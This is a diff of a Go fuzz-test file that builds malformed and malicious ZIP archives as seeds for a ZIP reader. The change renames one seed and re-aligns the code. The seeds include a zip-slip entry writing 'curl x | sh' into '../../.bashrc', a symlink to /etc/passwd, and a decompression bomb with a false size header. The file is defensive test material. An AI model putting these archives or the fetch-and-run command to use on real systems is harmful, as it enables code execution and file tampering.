@@ -101,16 +101,16 @@ func TestWriteCorpus(t *testing.T) {
 	small := bomb(t, 8)
 	good := mkzip(t, goodEntries()...)
 	seeds := map[string][]byte{
-		"zip-slip":       mkzip(t, entry{name: "../../.bashrc", body: "curl x | sh"}),
-		"symlink":        mkzip(t, entry{name: "passwd", body: "/etc/passwd", mode: 0o777 | 1<<27}),
-		"duplicate":      mkzip(t, entry{name: "a", body: "1"}, entry{name: "a", body: "2"}),
-		"duplicate-case": mkzip(t, entry{name: "README", body: "1"}, entry{name: "readme", body: "2"}),
-		"bomb-64MiB":     mkzip(t, entry{raw: &zip.FileHeader{Name: "z", Method: zip.Deflate, CompressedSize64: uint64(len(small)), UncompressedSize64: 64 << 20}, data: small}),
-		"truncated-cd":   append(append([]byte(nil), good[:len(good)-eocdLen-20]...), good[len(good)-eocdLen:]...),
-		"truncated-end":  good[:len(good)-10],
-		"overlapping":    overlap(t, mkzip(t, entry{name: "manifest.json", body: goodManifest}), "manifest.xson"),
-		"signed":         append(append([]byte(nil), good...), append(append([]byte("MCPB_SIG_V1"), 4, 0, 0, 0), "DER!MCPB_SIG_END"...)...),
-		"trailing-data":  append(append([]byte(nil), good...), "GARBAGE"...),
+		"zip-slip":         mkzip(t, entry{name: "../../.bashrc", body: "curl x | sh"}),
+		"symlink":          mkzip(t, entry{name: "passwd", body: "/etc/passwd", mode: 0o777 | 1<<27}),
+		"duplicate":        mkzip(t, entry{name: "a", body: "1"}, entry{name: "a", body: "2"}),
+		"duplicate-case":   mkzip(t, entry{name: "README", body: "1"}, entry{name: "readme", body: "2"}),
+		"bomb-lying-64MiB": mkzip(t, entry{raw: &zip.FileHeader{Name: "z", Method: zip.Deflate, CompressedSize64: uint64(len(small)), UncompressedSize64: 64 << 20}, data: small}),
+		"truncated-cd":     append(append([]byte(nil), good[:len(good)-eocdLen-20]...), good[len(good)-eocdLen:]...),
+		"truncated-end":    good[:len(good)-10],
+		"overlapping":      overlap(t, mkzip(t, entry{name: "manifest.json", body: goodManifest}), "manifest.xson"),
+		"signed":           append(append([]byte(nil), good...), append(append([]byte("MCPB_SIG_V1"), 4, 0, 0, 0), "DER!MCPB_SIG_END"...)...),
+		"trailing-data":    append(append([]byte(nil), good...), "GARBAGE"...),
 	}
 	dir := filepath.Join("testdata", "fuzz", "FuzzReadZip")
 	if err := os.MkdirAll(dir, 0o755); err != nil {
